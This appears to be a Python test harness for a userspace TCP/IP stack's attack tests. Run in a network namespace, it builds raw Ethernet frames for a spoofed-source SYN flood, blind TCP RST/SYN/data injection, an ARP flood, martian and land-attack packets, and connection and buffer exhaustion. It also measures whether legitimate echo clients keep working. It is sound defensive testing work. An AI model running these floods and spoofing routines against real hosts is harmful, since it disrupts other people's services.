#!/usr/bin/env python3
"""Hostile and watching peers for dpdk-io/tests/linux_attacks.rs.

Run inside the peer's network namespace (`ip netns exec NS python3
attack.py ...`). The raw programs send hand-built Ethernet frames on the
namespace's veth end from made-up hosts (their own MAC and IPv4 address,
which the kernel does not own, so it ignores the stack's replies) and
answer ARP for them. Every program is bounded in time and ends by itself;
each prints one JSON line when it is done.

  ooo    --iface IF --conns N --segments K --seconds S
      open N connections to the echo port, then for S seconds send each
      K segments of 400 bytes with a one-byte hole before every one, over
      and over; finally reset them all.
  tiny   --iface IF --count N --seconds S
      open one connection advertising a zero window and send N one-byte
      segments in order; hold it S seconds; reset it.
  noread --conns N --bytes B --seconds S
      N kernel TCP clients with a 2 KiB receive buffer send B bytes each
      to the echo port and never read; after S seconds they reset
      (SO_LINGER 0).
  synflood --iface IF --seconds S
      for S seconds, as fast as Python can, SYNs with the MSS option from
      spoofed sources across the subnet (10.99.0.100-249, random ports and
      sequence numbers) that never complete; the SYN-ACKs go unanswered.
  inject --iface IF --seconds S
      a kernel connection to the echo port sends a line every 50 ms and
      checks the echo, while frames spoofed from it (its MAC, address and
      port) carry RSTs, SYNs and data at random sequence numbers, and RSTs
      and SYNs in the window but not exact and data with an ACK 2^30 old
      (RFC 5961 3, 4, 5); prints whether the echo stayed intact.
  arpfill --iface IF --seconds S
      for S seconds, ARP requests for the stack's address from 150
      made-up on-link senders (10.99.0.100-249), round after round.
  idle   --iface IF --conns N --seconds S [--wait W]
      one made-up host (10.99.0.69) opens up to N connections (waiting W
      seconds, default 3, for the handshakes), holds those that open idle
      for S seconds, then resets them.
  martian --iface IF --seconds S
      SYNs and pings from 255.255.255.255, 224.0.0.1, 0.0.0.0, 127.0.0.1,
      the subnet's broadcast, 240.0.0.1 and the stack's own address and
      port (the land attack), round after round.
  legit  --seconds S [--interval I]
      every I seconds (default 0.05): connect to the echo port, send a
      short message, read it back, close; each attempt bounded by 2 s.
      Prints every attempt's start time and outcome.
  probe  --iface IF --seconds S [--interval I]
      every I seconds (default 0.1): ask the stack's MAC with ARP and
      ping it, from a made-up host; count the answers that come within
      the interval.
"""

import argparse
import json
import os
import random
import select
import socket
import struct
import sys
import time

STACK_IP = "10.99.0.1"
ECHO_PORT = 7
ETH_P_ALL = 0x0003
ETH_IP, ETH_ARP = 0x0800, 0x0806
FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10


def say(obj):
    print(json.dumps(obj), flush=True)


def checksum(data, start=0):
    if len(data) % 2:
        data += b"\0"
    s = start + sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def mac_bytes(text):
    return bytes(int(x, 16) for x in text.split(":"))


class RawHost:
    """A made-up host on the veth: builds frames, answers ARP for itself,
    and keeps what the stack sent to it."""

    def __init__(self, iface, mac, ip, answer_arp=True):
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.sock.bind((iface, 0))
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        self.sock.setblocking(False)
        self.mac = mac_bytes(mac)
        self.ip = socket.inet_aton(ip)
        # Off when we speak for an address the kernel owns (it answers).
        self.answer_arp = answer_arp
        self.stack_ip = socket.inet_aton(STACK_IP)
        self.stack_mac = None
        self.segments = []  # (sport, dport, flags, seq, ack, window, payload length)
        self.echo_replies = []  # (ident, seq) of echo replies
        self.arp_replies = 0

    def eth(self, dst, ethertype, payload):
        return dst + self.mac + struct.pack("!H", ethertype) + payload

    def arp(self, op, target_mac, target_ip, eth_dst):
        body = struct.pack("!HHBBH6s4s6s4s", 1, ETH_IP, 6, 4, op, self.mac, self.ip,
                           target_mac, target_ip)
        return self.eth(eth_dst, ETH_ARP, body)

    def ipv4(self, proto, payload):
        hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0x4000, 64, proto, 0,
                          self.ip, self.stack_ip)
        hdr = hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:]
        return self.eth(self.stack_mac, ETH_IP, hdr + payload)

    def tcp(self, sport, seq, ack, flags, window, payload=b"", mss=None, payload_sum=None):
        opts = struct.pack("!BBH", 2, 4, mss) if mss else b""
        hdr = struct.pack("!HHIIBBHHH", sport, ECHO_PORT, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
                          (20 + len(opts)) // 4 << 4, flags, window, 0, 0) + opts
        pseudo = self.ip + self.stack_ip + struct.pack("!BBH", 0, 6, len(hdr) + len(payload))
        if payload_sum is None:
            c = checksum(pseudo + hdr + payload)
        else:
            # The payload's sum, folded but not complemented, comes ready.
            c = checksum(pseudo + hdr, payload_sum)
        hdr = hdr[:16] + struct.pack("!H", c) + hdr[18:]
        return self.ipv4(6, hdr + payload)

    def ping(self, ident, seq):
        body = struct.pack("!BBHHH", 8, 0, 0, ident, seq) + b"are you there"
        body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
        return self.ipv4(1, body)

    def send(self, frame):
        while True:
            try:
                self.sock.send(frame)
                return
            except BlockingIOError:
                select.select([], [self.sock], [], 0.01)
                self.pump()

    def pump(self):
        """Reads every frame waiting; answers ARP for ourselves."""
        while True:
            try:
                frame = self.sock.recv(4096)
            except BlockingIOError:
                return
            if len(frame) < 14 or frame[6:12] == self.mac:
                continue
            ethertype = struct.unpack("!H", frame[12:14])[0]
            if ethertype == ETH_ARP and len(frame) >= 42:
                op = struct.unpack("!H", frame[20:22])[0]
                sender_mac, sender_ip, target_ip = frame[22:28], frame[28:32], frame[38:42]
                if op == 1 and target_ip == self.ip and self.answer_arp:
                    self.send(self.arp(2, sender_mac, sender_ip, sender_mac))
                elif op == 2 and sender_ip == self.stack_ip and frame[0:6] == self.mac:
                    self.stack_mac = sender_mac
                    self.arp_replies += 1
            elif ethertype == ETH_IP and frame[0:6] == self.mac and len(frame) >= 34:
                ihl = (frame[14] & 0x0F) * 4
                proto = frame[23]
                l4 = frame[14 + ihl:]
                if proto == 6 and len(l4) >= 20:
                    sport, dport, seq, ack, off, flags, win = struct.unpack("!HHIIBBH", l4[:16])
                    total = struct.unpack("!H", frame[16:18])[0]
                    plen = total - ihl - (off >> 4) * 4
                    self.segments.append((sport, dport, flags, seq, ack, win, plen))
                elif proto == 1 and len(l4) >= 8 and l4[0] == 0:
                    self.echo_replies.append(struct.unpack("!HH", l4[4:8]))

    def resolve(self, timeout=5.0):
        """Learns the stack's MAC (and teaches it ours) with an ARP request."""
        end = time.monotonic() + timeout
        while self.stack_mac is None and time.monotonic() < end:
            self.send(self.arp(1, b"\0" * 6, self.stack_ip, b"\xff" * 6))
            t = time.monotonic() + 0.2
            while self.stack_mac is None and time.monotonic() < t:
                select.select([self.sock], [], [], 0.02)
                self.pump()
        if self.stack_mac is None:
            say({"error": "the stack did not answer ARP"})
            sys.exit(3)


class RawConn:
    def __init__(self, port, iss):
        self.port = port
        self.iss = iss
        self.irs = None

    def seq(self, offset):
        return self.iss + 1 + offset

    def ack(self):
        return self.irs + 1


def open_conns(host, n, window, timeout=10.0, need=None):
    """Opens n connections from host; exits unless `need` (default all)
    complete. Returns those that did."""
    need = n if need is None else need
    conns = [RawConn(20000 + i, (i * 7919 * 65536) & 0xFFFFFFFF) for i in range(n)]
    by_port = {c.port: c for c in conns}
    for c in conns:
        host.send(host.tcp(c.port, c.iss, 0, SYN, window, mss=1460))
    end = time.monotonic() + timeout
    while any(c.irs is None for c in conns) and time.monotonic() < end:
        select.select([host.sock], [], [], 0.02)
        host.pump()
        for (sport, dport, flags, seq, ack, win, plen) in host.segments:
            c = by_port.get(dport)
            if c and flags & SYN and flags & ACK and c.irs is None:
                c.irs = seq
                host.send(host.tcp(c.port, c.seq(0), c.ack(), ACK, window))
        host.segments.clear()
    opened = [c for c in conns if c.irs is not None]
    if len(opened) < need:
        say({"error": "handshakes", "opened": len(opened), "wanted": need})
        sys.exit(3)
    return opened


def reset_all(host, conns, offset=lambda c: 0, settle=1.0):
    """Resets every connection as a real peer would: a RST at the sequence
    number it believes next, then, for a challenge ACK (RFC 5961 3.2: the
    stack lost some of our bytes, so that RST was not exact), a RST at the
    sequence number the challenge names."""
    by_port = {c.port: c for c in conns}
    for c in conns:
        host.send(host.tcp(c.port, c.seq(offset(c)), c.ack(), RST | ACK, 0))
    end = time.monotonic() + settle
    while by_port and time.monotonic() < end:
        select.select([host.sock], [], [], 0.02)
        host.pump()
        for (sport, dport, flags, seq, ack, win, plen) in host.segments:
            c = by_port.get(dport)
            if c is not None and flags & ACK and not flags & (SYN | RST):
                host.send(host.tcp(c.port, ack, 0, RST, 0))
        host.segments.clear()


def ooo(a):
    host = RawHost(a.iface, "02:00:00:00:66:01", "10.99.0.66")
    host.resolve()
    conns = open_conns(host, a.conns, 65535)
    payload = b"\x5a" * 400
    payload_sum = sum(struct.unpack("!200H", payload))
    sent, rounds = 0, 0
    end = time.monotonic() + a.seconds
    while time.monotonic() < end:
        for c in conns:
            for k in range(a.segments):
                at = 1 + k * 401
                host.send(host.tcp(c.port, c.seq(at), c.ack(), ACK, 65535, payload,
                                   payload_sum=payload_sum))
                sent += 1
            host.pump()
            host.segments.clear()
            if time.monotonic() >= end:
                break
        rounds += 1
    reset_all(host, conns)
    say({"attack": "ooo", "conns": len(conns), "segments_sent": sent, "rounds": rounds})


def tiny(a):
    host = RawHost(a.iface, "02:00:00:00:66:02", "10.99.0.67")
    host.resolve()
    [c] = open_conns(host, 1, 0)
    for i in range(a.count):
        host.send(host.tcp(c.port, c.seq(i), c.ack(), PSH | ACK, 0, b"x"))
        if i % 256 == 0:
            host.pump()
            host.segments.clear()
    end = time.monotonic() + a.seconds
    while time.monotonic() < end:
        select.select([host.sock], [], [], 0.05)
        host.pump()
        host.segments.clear()
    reset_all(host, [c], lambda c: a.count)
    say({"attack": "tiny", "segments_sent": a.count})


def synflood(a):
    host = RawHost(a.iface, "02:00:00:00:66:03", "10.99.0.68")
    host.resolve()
    rnd = random.Random(4987)
    sent = 0
    end = time.monotonic() + a.seconds
    while time.monotonic() < end:
        for _ in range(256):
            host.ip = bytes([10, 99, 0, rnd.randrange(100, 250)])
            host.send(host.tcp(rnd.randrange(1024, 65536), rnd.getrandbits(32), 0, SYN,
                               65535, mss=1460))
            sent += 1
        host.pump()
        host.segments.clear()
    say({"attack": "synflood", "syns_sent": sent, "seconds": a.seconds})


def noread(a):
    socks = []
    for _ in range(a.conns):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        s.settimeout(5)
        s.connect((STACK_IP, ECHO_PORT))
        s.setblocking(False)
        socks.append(s)
    chunk = b"\xa5" * 16384
    sent = [0] * len(socks)
    end = time.monotonic() + a.seconds
    while time.monotonic() < end:
        busy = [s for s, n in zip(socks, sent) if n < a.bytes]
        if not busy:
            time.sleep(0.05)
            continue
        _, writable, _ = select.select([], busy, [], 0.05)
        for s in writable:
            i = socks.index(s)
            try:
                sent[i] += s.send(chunk[: min(len(chunk), a.bytes - sent[i])])
            except BlockingIOError:
                pass
    for s in socks:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        s.close()
    say({"attack": "noread", "conns": len(socks), "bytes_sent": sum(sent)})


def inject(a):
    """Blind injection against an ordinary kernel connection: frames that
    claim to come from it (its address, MAC and port) with guessed
    sequence numbers, while it keeps echoing lines and checks every byte
    that comes back."""
    victim = socket.create_connection((STACK_IP, ECHO_PORT), timeout=5)
    victim.settimeout(2)
    cport = victim.getsockname()[1]
    with open("/sys/class/net/%s/address" % a.iface) as f:
        mac = f.read().strip()
    host = RawHost(a.iface, mac, victim.getsockname()[0], answer_arp=False)
    host.resolve()
    rnd = random.Random(5961)
    # The stack's next sequence number and what it expects from us, from
    # what it sends the victim (the raw socket sees it too).
    snd_nxt = rcv_nxt = None
    sent_lines, echoed, bad = 0, b"", False
    expect = b""
    counts = {"blind_rst": 0, "blind_syn": 0, "blind_data": 0,
              "window_rst": 0, "window_syn": 0, "old_ack_data": 0}
    end = time.monotonic() + a.seconds
    next_line = time.monotonic()
    while time.monotonic() < end:
        host.pump()
        for (sport, dport, flags, seq, ack, win, plen) in host.segments:
            if sport == ECHO_PORT and dport == cport and flags & ACK:
                snd_nxt, rcv_nxt = (seq + plen) & 0xFFFFFFFF, ack
        host.segments.clear()
        for _ in range(32):
            guess = rnd.getrandbits(32)
            host.send(host.tcp(cport, guess, 0, RST, 0))
            host.send(host.tcp(cport, rnd.getrandbits(32), 0, SYN, 65535))
            host.send(host.tcp(cport, rnd.getrandbits(32), rnd.getrandbits(32), PSH | ACK,
                               65535, b"BLIND-INJECT"))
            counts["blind_rst"] += 1
            counts["blind_syn"] += 1
            counts["blind_data"] += 1
        if rcv_nxt is not None:
            # In the window but not exact: challenge ACKs, within the limit.
            host.send(host.tcp(cport, rcv_nxt + 1000, 0, RST, 0))
            host.send(host.tcp(cport, rcv_nxt + 1000, 0, SYN, 65535))
            # The right sequence number, an acknowledgment 2^30 old.
            host.send(host.tcp(cport, rcv_nxt, snd_nxt - (1 << 30), PSH | ACK, 65535,
                               b"OLD-ACK-DATA"))
            counts["window_rst"] += 1
            counts["window_syn"] += 1
            counts["old_ack_data"] += 1
        if time.monotonic() >= next_line:
            line = b"line %d\n" % sent_lines
            sent_lines += 1
            expect += line
            try:
                victim.sendall(line)
                while len(echoed) < len(expect):
                    part = victim.recv(4096)
                    if not part:
                        break
                    echoed += part
            except OSError:
                bad = True
                break
            next_line = time.monotonic() + 0.05
        time.sleep(0.005)
    # Anything stray would arrive after the last line's echo: wait a bit.
    reset = bad
    victim.settimeout(0.5)
    try:
        victim.sendall(b"last\n")
        expect += b"last\n"
        while len(echoed) < len(expect):
            part = victim.recv(4096)
            if not part:
                break
            echoed += part
        victim.settimeout(0.3)
        extra = victim.recv(4096)
        echoed += extra
    except socket.timeout:
        pass
    except OSError:
        reset = True
    victim.close()
    say({"attack": "inject", "lines": sent_lines, "echo_intact": echoed == expect,
         "victim_reset": reset, "echoed_bytes": len(echoed), "expected_bytes": len(expect),
         "frames": counts})


def arpfill(a):
    """ARP requests for the stack's address from many made-up on-link
    senders (10.99.0.100-249, a MAC each), over and over."""
    host = RawHost(a.iface, "02:00:00:00:88:00", "10.99.0.88")
    senders = [(bytes([2, 0, 0, 0x88, 1, n]), bytes([10, 99, 0, n])) for n in range(100, 250)]
    sent = 0
    end = time.monotonic() + a.seconds
    while time.monotonic() < end:
        for mac, ip in senders:
            host.mac, host.ip = mac, ip
            host.send(host.arp(1, b"\0" * 6, host.stack_ip, b"\xff" * 6))
            sent += 1
        host.pump()
        host.segments.clear()
        time.sleep(0.01)
    say({"attack": "arpfill", "senders": len(senders), "requests": sent})


def idle(a):
    """One made-up host opens as many connections as it can and holds
    them idle, then resets them."""
    host = RawHost(a.iface, "02:00:00:00:66:04", "10.99.0.69")
    host.resolve()
    # --wait: how long handshakes may take (SYN-ACKs a busy machine loses
    # come again after a second; SYNs beyond a source limit never do).
    conns = open_conns(host, a.conns, 65535, timeout=a.wait, need=0)
    end = time.monotonic() + a.seconds
    while time.monotonic() < end:
        select.select([host.sock], [], [], 0.05)
        host.pump()
        host.segments.clear()
    reset_all(host, conns)
    say({"attack": "idle", "tried": a.conns, "opened": len(conns)})


def martian(a):
    """SYNs to the echo port and pings from sources no host may have (RFC
    1122 3.2.1.3), the land attack (our own address and port) among them,
    round after round."""
    # It never answers ARP: its address changes to ones it must not claim.
    host = RawHost(a.iface, "02:00:00:00:66:05", "10.99.0.70", answer_arp=False)
    host.resolve()
    sources = ["255.255.255.255", "224.0.0.1", "0.0.0.0", "127.0.0.1", "10.99.0.255",
               "240.0.0.1", STACK_IP]
    sent = 0
    end = time.monotonic() + a.seconds
    while time.monotonic() < end:
        for src in sources:
            host.ip = socket.inet_aton(src)
            sport = ECHO_PORT if src == STACK_IP else 31337
            host.send(host.tcp(sport, rnd_seq(sent), 0, SYN, 65535, mss=1460))
            host.send(host.ping(0x4d41, sent & 0xFFFF))
            sent += 2
        host.pump()
        host.segments.clear()
        time.sleep(0.01)
    say({"attack": "martian", "frames": sent})


def rnd_seq(n):
    return (n * 2654435761) & 0xFFFFFFFF


def legit(a):
    attempts = []
    end = time.monotonic() + a.seconds
    n = 0
    while time.monotonic() < end:
        started = time.time()
        t0 = time.monotonic()
        msg = ("legit %d %.3f\n" % (n, started)).encode()
        ok, why = False, ""
        try:
            s = socket.create_connection((STACK_IP, ECHO_PORT), timeout=2)
            s.settimeout(max(0.01, 2 - (time.monotonic() - t0)))
            s.sendall(msg)
            got = b""
            while len(got) < len(msg):
                part = s.recv(4096)
                if not part:
                    break
                got += part
            s.close()
            ok = got == msg
            why = "" if ok else "short echo"
        except OSError as e:
            why = type(e).__name__
        attempts.append({"at": started, "ok": ok, "why": why, "secs": time.monotonic() - t0})
        n += 1
        time.sleep(max(0.0, a.interval - (time.monotonic() - t0)))
    say({"legit": attempts})


def probe(a):
    host = RawHost(a.iface, "02:00:00:00:77:01", "10.99.0.77")
    host.resolve()
    sent = arp_ok = ping_ok = 0
    end = time.monotonic() + a.seconds
    seq = 0
    while time.monotonic() < end:
        seq += 1
        sent += 1
        before = host.arp_replies
        host.echo_replies.clear()
        host.send(host.arp(1, b"\0" * 6, host.stack_ip, b"\xff" * 6))
        host.send(host.ping(0x5354, seq))
        t = time.monotonic() + a.interval
        while time.monotonic() < t:
            select.select([host.sock], [], [], 0.01)
            host.pump()
            host.segments.clear()
        arp_ok += host.arp_replies > before
        ping_ok += (0x5354, seq) in host.echo_replies
    say({"probe": {"sent": sent, "arp": arp_ok, "ping": ping_ok}})


def main():
    p = argparse.ArgumentParser(description=__doc__,
                                formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="cmd", required=True)
    q = sub.add_parser("ooo")
    q.add_argument("--iface", required=True)
    q.add_argument("--conns", type=int, default=200)
    q.add_argument("--segments", type=int, default=130)
    q.add_argument("--seconds", type=float, default=3)
    q = sub.add_parser("tiny")
    q.add_argument("--iface", required=True)
    q.add_argument("--count", type=int, default=16001)
    q.add_argument("--seconds", type=float, default=3)
    q = sub.add_parser("synflood")
    q.add_argument("--iface", required=True)
    q.add_argument("--seconds", type=float, default=4)
    q = sub.add_parser("noread")
    q.add_argument("--conns", type=int, default=100)
    q.add_argument("--bytes", type=int, default=400_000)
    q.add_argument("--seconds", type=float, default=5)
    q = sub.add_parser("inject")
    q.add_argument("--iface", required=True)
    q.add_argument("--seconds", type=float, default=3)
    q = sub.add_parser("arpfill")
    q.add_argument("--iface", required=True)
    q.add_argument("--seconds", type=float, default=3)
    q = sub.add_parser("idle")
    q.add_argument("--iface", required=True)
    q.add_argument("--conns", type=int, default=300)
    q.add_argument("--seconds", type=float, default=3)
    q.add_argument("--wait", type=float, default=3)
    q = sub.add_parser("martian")
    q.add_argument("--iface", required=True)
    q.add_argument("--seconds", type=float, default=3)
    q = sub.add_parser("legit")
    q.add_argument("--seconds", type=float, required=True)
    q.add_argument("--interval", type=float, default=0.05)
    q = sub.add_parser("probe")
    q.add_argument("--iface", required=True)
    q.add_argument("--seconds", type=float, required=True)
    q.add_argument("--interval", type=float, default=0.1)
    a = p.parse_args()
    {"ooo": ooo, "tiny": tiny, "synflood": synflood, "noread": noread, "inject": inject,
     "arpfill": arpfill, "idle": idle, "martian": martian, "legit": legit,
     "probe": probe}[a.cmd](a)


if __name__ == "__main__":
    main()
